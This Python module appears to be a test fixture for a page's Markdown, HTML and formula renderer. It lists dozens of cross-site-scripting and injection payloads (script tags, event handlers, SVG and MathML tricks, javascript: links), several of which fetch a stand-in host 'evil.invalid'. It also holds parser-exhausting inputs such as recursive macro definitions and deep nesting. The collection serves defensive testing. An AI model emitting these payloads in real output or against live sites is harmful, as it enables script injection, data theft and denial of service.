"""Answers as a hostile model would write them for a page: to run, to fetch, to look like the page, to keep it busy.

Each attack that could run a script sets ``window.canary``; each that could fetch something asks ``evil.invalid``.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from typing import Final

__all__ = ["AFTER", "ATTACKS", "GROWING", "attack_text"]

AFTER: Final = "What stands behind it is still read."
"""Stands behind every attack in a paragraph of its own."""

_RUN: Final = "window.canary=1"
_EVIL: Final = "http://evil.invalid/stolen"

_ELEMENTS: Final = {
    "script": f"<script>{_RUN}</script>",
    "script_in_pieces": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "script_uppercase": f"<SCRIPT\n>{_RUN}</SCRIPT\t>",
    "script_from_elsewhere": f"<script src={_EVIL}.js></script>",
    "event_handler": f'<img src=x onerror="{_RUN}">',
    "event_handler_slashes": f"<img/src=x/onerror={_RUN}>",
    "event_handler_focus": f'<input autofocus onfocus="{_RUN}">',
    "details_toggle": f'<details open ontoggle="{_RUN}">',
    "svg": f'<svg onload="{_RUN}"><script>{_RUN}</script></svg>',
    "svg_use": f'<svg><use href="data:image/svg+xml,{_EVIL}"/></svg>',
    "svg_animate": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    "foreign_object": f"<svg><foreignObject><iframe srcdoc='<script>parent.{_RUN}</script>'></foreignObject></svg>",
    "mathml_link": f'<math><maction actiontype="statusline" xlink:href="javascript:{_RUN}">x</maction></math>',
    "mathml_style": f"<math><mtext><table><mglyph><style><img src onerror={_RUN}></style></mglyph></table></mtext>",
    "mathml_annotation": f"<math><annotation-xml encoding='text/html'><img src onerror={_RUN}></annotation-xml></math>",
    "style": f"<style>@import '{_EVIL}'; body {{ display: none }}</style>",
    "style_attribute": f'<p style="position:fixed;inset:0;background:url({_EVIL})">over everything</p>',
    "link": f'<link rel=stylesheet href="{_EVIL}.css">',
    "prefetch": '<link rel=dns-prefetch href="//evil.invalid">',
    "iframe": f'<iframe src="{_EVIL}"></iframe>',
    "object": f'<object data="{_EVIL}"></object><embed src="{_EVIL}">',
    "base": f'<base href="{_EVIL}/">',
    "meta_refresh": f'<meta http-equiv="refresh" content="0;url={_EVIL}">',
    "form": f'</form><form action="{_EVIL}"><button>Next</button>',
    "audio": f'<audio src="{_EVIL}.mp3" autoplay></audio><video poster="{_EVIL}.png"></video>',
    "template": f"<template><script>{_RUN}</script></template>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    "clobbering": '<form id="form"><input id="handed" name="attributes"></form><a id="saved">',
    "same_ids": '<p id="saved" class="saved" data-state="saved">Saved</p>',
}
_UNCLOSED: Final = {
    "unclosed_comment": "<!-- everything behind this is swallowed",
    "unclosed_tag": '<div title="everything behind this',
    "unclosed_textarea": "<textarea>",
    "unclosed_title": "<title><xmp><plaintext>",
    "unclosed_script": "<script>/*",
    "unclosed_style": "<style>*{display:none",
    "unclosed_cdata": "<![CDATA[ swallowed",
    "unclosed_instruction": "<?php swallowed",
    "unclosed_doctype": "<!DOCTYPE html [",
    "closing_what_is_ours": "</div></section></article></form></main></body></html>",
}
_LINKS: Final = {
    "javascript_link": f"[click]({'javascript'}:{_RUN})",
    "javascript_mixed_case": f"[click](JaVaScRiPt:{_RUN})",
    "javascript_with_tab": f"[click](<java\tscript:{_RUN}>)",
    "javascript_with_line_end": f"[click](<java&#10;script:{_RUN}>)",
    "javascript_with_control": f"[click](<\x01javascript:{_RUN}>)",
    "javascript_entities": f"[click](&#106;avascript:{_RUN})",
    "javascript_autolink": f"<javascript:{_RUN}>",
    "vbscript_link": "[click](vbscript:msgbox(1))",
    "data_link": f"[click](data:text/html;base64,PHNjcmlwdD4=) [c](data:text/html,<script>{_RUN}</script>)",
    "link_to_elsewhere": f"[click]({_EVIL}) <{_EVIL}> [ref]\n\n[ref]: {_EVIL}",
    "link_title_breaks_out": f"[a]({_EVIL} 'x\" onmouseover=\"{_RUN}')",
    "link_address_breaks_out": f'[a](http://a"onmouseover="{_RUN})',
    "picture": f'![pixel]({_EVIL}.png) ![x" onerror="{_RUN}](x)',
    "picture_data": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "fence_language": f'```"><script>{_RUN}</script>\ncode\n```',
    "code_breaks_out": f"`</code><script>{_RUN}</script>`",
    "table_cell": f"| a |\n|---|\n| <img src=x onerror={_RUN}> |",
}
_FORMULAS: Final = {
    "formula_text": rf"$\text{{<script>{_RUN}</script><img src=x onerror={_RUN}>}}$",
    "formula_entities": rf"$\text{{&lt;script&gt;{_RUN}&lt;/script&gt;}}$",
    "formula_unicode": rf"$\unicode{{60}}img src=x onerror={_RUN}\unicode{{62}}$",
    "formula_verbatim": rf"$\verb|<img src=x onerror={_RUN}>|$",
    "formula_link": rf"$\href{{javascript:{_RUN}}}{{x}}$",
    "formula_style": r"$\style{position:fixed;inset:0}{x} \class{saved}{y}$",
    "formula_colour": r"$\color{white}{x}$",
    "formula_box": r"$\colorbox{red}{y} \rule{400em}{400em}$ $\rule{400em}{400em}$",
    "formula_far_away": r"$\hspace{999em}x\hspace{-999em}y$ $\raise 400em {z}$",
    "formula_attribute": rf"$\hspace{{1em\" onclick=\"{_RUN}}}x \mathop{{\text{{\"}}}}$",
    "formula_breaks_out": f"\\[ </math><script>{_RUN}</script> \\]",
    "formula_defines_itself": r"$\def\a{\a\a}\a$ $\newcommand{\b}{\b\b}\b$",
    "formula_laughs": "$"
    + "".join(rf"\def\{chr(98 + n)}{{{(chr(92) + chr(97 + n)) * 10}}}" for n in range(9))
    + r"\j$",
    "formula_deep": f"${'x_{' * 300}{'}' * 300}$",
    "formula_deep_braces": f"${'{' * 300}x{'}' * 300}$",
    "formula_roots_without_braces": f"${(chr(92) + 'sqrt') * 300}x$",
    "formula_primes": "$" + "'" * 1_900 + "$",
    "formula_carets": "$" + "^" * 1_900 + "$",
    "formula_columns": rf"$\begin{{array}}{{{'c' * 900}}}{'&' * 900}\end{{array}}$",
    "formula_never_closed": r"\[ x = \begin{matrix} $$ \( $",
}
_CHARACTERS: Final = {
    "right_to_left": "\u202eteg ot desrever\u2066 isolated \u200f\u061c",
    "nul": "a\0b<scr\0ipt>window.canary=1</scr\0ipt>",
    "controls": "\x1b[2J\x07\x08\x7f\x9b31m",
    "invisible": "a\u200bb\u2060c\ufeffd\u00ade\U000e0041\U000e0042",
    "half_a_character": "\ud83d and \udc00",
    "piles": "a" + "\u0301" * 5_000,
    "line_separators": "one\u2028two\u2029three\x85four",
}
ATTACKS: Final[Mapping[str, str]] = {**_ELEMENTS, **_UNCLOSED, **_LINKS, **_FORMULAS, **_CHARACTERS}
"""Name -> what the model writes."""

GROWING: Final[Mapping[str, Callable[[int], str]]] = {
    "long_line": lambda size: "a" * size,
    "long_words": lambda size: "word " * (size // 5),
    "brackets": lambda size: "[" * size,
    "closed_brackets": lambda size: "[" * (size // 2) + "]" * (size // 2),
    "pictures": lambda size: "![" * (size // 2),
    "links": lambda size: "[a](" * (size // 4),
    "links_in_links": lambda size: "[a" * (size // 4) + "](b)" * (size // 8),
    "quotes": lambda size: ">" * size,
    "quotes_of_lists": lambda size: "> - " * (size // 4),
    "lists": lambda size: "* a\n" * (size // 4),
    "lists_in_lists": lambda size: "\n".join(" " * (2 * depth) + "- a" for depth in range(int(size**0.5))),
    "numbered": lambda size: "1. a\n" * (size // 5),
    "emphasis": lambda size: "*a_ " * (size // 4),
    "emphasis_at_ends": lambda size: "a**" * (size // 3),
    "strokes": lambda size: "~~a" * (size // 3),
    "backticks": lambda size: "".join("`" * count + "a" for count in range(1, int((2 * size) ** 0.5))),
    "fences": lambda size: "```\n" * (size // 4),
    "opened_tags": lambda size: "<div>" * (size // 5),
    "less_than": lambda size: "<" * size,
    "autolinks": lambda size: "<a:" * (size // 3),
    "entities": lambda size: "&#" * (size // 2),
    "comments": lambda size: "<!--" * (size // 4),
    "definitions": lambda size: "[a]: b\n" * (size // 7),
    "wide_table": lambda size: "|a" * (size // 8) + "|\n" + "|-" * (size // 8) + "|\n" + "|1\n" * (size // 6),
    "long_table": lambda size: "|a|b|\n|-|-|\n" + "|1|2|\n" * (size // 6),
    "dollars": lambda size: "$a" * (size // 2),
    "formulas": lambda size: "$a$ " * (size // 4),
    "opened_formulas": lambda size: r"\(a" * (size // 3),
    "opened_blocks": lambda size: "\\[a\n\n" * (size // 5),
    "dollar_blocks": lambda size: "$$a\n" * (size // 4),
    "nul": lambda size: "\0" * size,
    "right_to_left": lambda size: "\u202e" * size,
    "piles": lambda size: "a" + "\u0301" * size,
}
"""Name -> a text of about a size that costs a careless parser more than the size."""


def attack_text(name: str) -> str:
    """An attack with an innocent line before it and one behind it."""
    return f"Before it.\n\n{ATTACKS[name]}\n\n{AFTER}"
